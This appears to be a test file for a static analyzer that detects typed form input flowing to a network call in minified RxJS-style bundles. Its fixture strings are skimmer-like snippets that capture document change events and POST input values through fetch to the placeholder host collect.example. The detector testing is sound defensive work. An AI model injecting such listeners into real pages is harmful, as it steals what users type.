import { describe, expect, test } from 'vitest';
import { factsOf } from '../testing/examples.ts';
import { sample } from '../testing/sample.ts';
import { flowsOf } from './flowsOf.ts';

/** RxJS as minifiers leave it: only `pipe` and `subscribe` keep their names. */
const STREAM =
  'import { z, q, r, fromEvent, filter } from "rx"; const send = (body) => fetch("https://collect.example/", { method: "POST", body });';

const typed = async (content: string): Promise<number> =>
  (await factsOf(sample({ content: `${STREAM} function m(t, n) { return z(t, n); } ${content}` })))
    .whole(flowsOf)
    .flows.filter(({ source, sink }) => source.kind === 'form-input' && sink.kind === 'network').length;

describe('a stream of events in a bundle', () => {
  test.each([
    [
      'filtered',
      'm(document, "change").pipe(q((e) => e.target.id === "a"), r(9)).subscribe((e) => send(e.target.value));',
    ],
    [
      'made into what was typed',
      'm(document, "change").pipe(r((e) => e.target.value)).subscribe((text) => send(text));',
    ],
    [
      'filtered by what it says of itself',
      'fromEvent(document, "change").pipe(filter((e) => e.isTrusted)).subscribe((e) => send(e.target.value));',
    ],
    ['heard directly', 'm(document, "change").subscribe((e) => send(e.target.value));'],
  ])('is heard where it is %s', async (_, content) => expect(await typed(content)).toBeGreaterThan(0));

  test.each([
    [
      'made into something else',
      'm(document, "change").pipe(r((e) => ({ target: { value: e.timeStamp } }))).subscribe((e) => send(e.target.value));',
    ],
    ['no event of a page', 'm(document, "ticks").subscribe((e) => send(e.target.value));'],
  ])('is not taken for what was typed where it is %s', async (_, content) => expect(await typed(content)).toBe(0));
});
